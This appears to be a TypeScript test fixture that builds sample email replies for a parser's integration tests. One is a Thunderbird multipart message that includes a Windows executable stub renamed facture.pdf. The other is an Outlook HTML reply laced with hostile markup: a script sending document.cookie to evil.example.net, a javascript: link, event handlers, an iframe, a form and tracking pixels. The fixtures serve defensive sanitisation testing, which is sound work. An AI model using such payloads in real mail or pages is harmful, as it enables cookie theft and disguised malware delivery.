// Replies carrying files and HTML as the common clients shape them (tests/integration/
// replies.test.ts): Thunderbird's multipart/mixed with a signed PDF, a screenshot and a program
// renamed `.pdf`; Outlook's HTML-only answer (multipart/related, its signature's logo inline)
// with what a hostile or careless HTML mail carries.

type Context = { reference: string; tagged: string; ours: string; buyer: string };

const crlf = (lines: string[]) => `${lines.join("\r\n")}\r\n`;

/** Base64 in lines of 76 characters, as mail clients write it. */
const base64Lines = (bytes: Buffer) => bytes.toString("base64").match(/.{1,76}/g) ?? [];

/** A real one-page PDF (catalog, page, font, content stream, cross-reference table). */
export function smallPdf(padding = 0): Buffer {
  const content = "BT /F1 18 Tf 20 40 Td (Bon pour accord) Tj ET";
  const objects = [
    "<< /Type /Catalog /Pages 2 0 R >>",
    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 100] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>",
    `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
    "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
  ];
  let body = `%PDF-1.4\n%\u00e2\u00e3\u00cf\u00d3\n${"% padding\n".repeat(padding)}`;
  const offsets: number[] = [];
  objects.forEach((object, index) => {
    offsets.push(Buffer.byteLength(body, "latin1"));
    body += `${index + 1} 0 obj\n${object}\nendobj\n`;
  });
  const xref = Buffer.byteLength(body, "latin1");
  body += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
  body += offsets.map((offset) => `${String(offset).padStart(10, "0")} 00000 n \n`).join("");
  body += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(body, "latin1");
}

/** A real 1×1 PNG. */
export const SMALL_PNG = Buffer.from(
  "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==",
  "base64",
);

/** The start of a Windows program (MZ, then the DOS stub's words), to be named `.pdf`. */
export const FAKE_PDF = Buffer.concat([
  Buffer.from([0x4d, 0x5a, 0x90, 0x00, 0x03, 0x00, 0x00, 0x00, 0x04, 0x00, 0x00, 0x00, 0xff, 0xff]),
  Buffer.alloc(50),
  Buffer.from("This program cannot be run in DOS mode.\r\r\n$", "latin1"),
]);

export function attachmentFixtures({ reference, tagged, ours, buyer }: Context) {
  const date = "Tue, 01 Dec 2026 10:04:12 +0100";
  const mixed = "------------Mx0aBcDeFgHiJkLmNoPqRsTu";
  const related = "_004_AM0PR07MB4321A1B2C3D4E5F6AM0PR07MB4321eurprd_";
  const part = (type: string, disposition: string, bytes: Buffer) => [
    `--${mixed}`,
    `Content-Type: ${type}`,
    `Content-Disposition: ${disposition}`,
    "Content-Transfer-Encoding: base64",
    "",
    ...base64Lines(bytes),
    "",
  ];
  /** Thunderbird's reply with three files, and the `extra` ones after them. */
  const thunderbird = (
    messageId: string,
    files: { pdf: Buffer; extra?: { name: string; type: string; bytes: Buffer }[] },
  ) =>
    crlf([
      `Content-Type: multipart/mixed; boundary="${mixed}"`,
      `Message-ID: <${messageId}@example.fr>`,
      `Date: ${date}`,
      "MIME-Version: 1.0",
      "User-Agent: Mozilla Thunderbird",
      `Subject: Re: Votre demande ${reference}`,
      "Content-Language: fr",
      `To: ${tagged}`,
      `References: ${ours}`,
      `From: Jeanne Achat <${buyer}>`,
      `In-Reply-To: ${ours}`,
      "",
      "This is a multi-part message in MIME format.",
      `--${mixed}`,
      "Content-Type: text/plain; charset=UTF-8; format=flowed",
      "Content-Transfer-Encoding: 8bit",
      "",
      "Voici le bon de commande signé et la capture de la configuration.",
      "",
      "Le 30/11/2026 à 09:00, ServeurPro a écrit :",
      "> Bonjour",
      "",
      ...part(
        'application/pdf; name="Bon de commande =?UTF-8?Q?sign=C3=A9?=.pdf"',
        "attachment; filename*=UTF-8''Bon%20de%20commande%20sign%C3%A9.pdf",
        files.pdf,
      ),
      ...part('image/png; name="capture.png"', 'attachment; filename="capture.png"', SMALL_PNG),
      ...part(
        'application/pdf; name="facture.pdf"',
        'attachment; filename="facture.pdf"',
        FAKE_PDF,
      ),
      ...(files.extra ?? []).flatMap(({ name, type, bytes }) =>
        part(`${type}; name="${name}"`, `attachment; filename="${name}"`, bytes),
      ),
      `--${mixed}--`,
    ]);
  return {
    thunderbird,
    // Outlook, HTML only: the buyer's words between a script, a tracking pixel, an `onclick`, a
    // `javascript:` link, styles, and the signature's logo as an inline part.
    outlookHtml: crlf([
      "MIME-Version: 1.0",
      `Date: ${date}`,
      "Message-ID: <AM0PR07MB4321HTML@AM0PR07MB4321.eurprd07.prod.outlook.com>",
      "Thread-Topic: Votre demande",
      "Thread-Index: AQHZ1234abcdEFGHijklMNOQ",
      `Subject: RE: Votre demande ${reference}`,
      `From: "Achat, Jeanne" <${buyer}>`,
      `To: "ServeurPro" <${tagged}>`,
      "Content-Language: fr-FR",
      `Content-Type: multipart/related; boundary="${related}"; type="text/html"`,
      "",
      `--${related}`,
      'Content-Type: text/html; charset="utf-8"',
      "Content-Transfer-Encoding: 8bit",
      "",
      '<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8">',
      "<style>p.MsoNormal{margin:0cm;font-family:Calibri} .x{background:url(https://tracker.example.net/css.gif)}</style>",
      "<script>document.location='https://evil.example.net/?c='+document.cookie</script>",
      '</head><body lang="FR" style="word-wrap:break-word">',
      '<div class="WordSection1"><p class="MsoNormal" onclick="alert(1)">Bonjour,</p>',
      '<p class="MsoNormal">Nous confirmons la commande du <b>serveur Xeon</b>.</p>',
      '<p class="MsoNormal"><a href="javascript:alert(document.domain)">Voir le détail</a> ou ',
      '<a href="https://www.example.com/conditions" onmouseover="steal()">nos conditions</a>.</p>',
      '<table><tr><td>Quantité</td><td style="color:red">2</td></tr></table>',
      '<img src="https://tracker.example.net/open.gif?id=42" width="1" height="1">',
      '<p class="MsoNormal">Jeanne<br><img src="cid:image001.png@01DB4321.ABCDEF00" alt="Logo"></p>',
      '<iframe src="https://evil.example.net/frame"></iframe><form action="https://evil.example.net/"><input name="q"></form>',
      "</div></body></html>",
      "",
      `--${related}`,
      'Content-Type: image/png; name="image001.png"',
      "Content-Description: image001.png",
      'Content-Disposition: inline; filename="image001.png"; size=68',
      "Content-ID: <image001.png@01DB4321.ABCDEF00>",
      "Content-Transfer-Encoding: base64",
      "",
      ...base64Lines(SMALL_PNG),
      "",
      `--${related}--`,
    ]),
  };
}
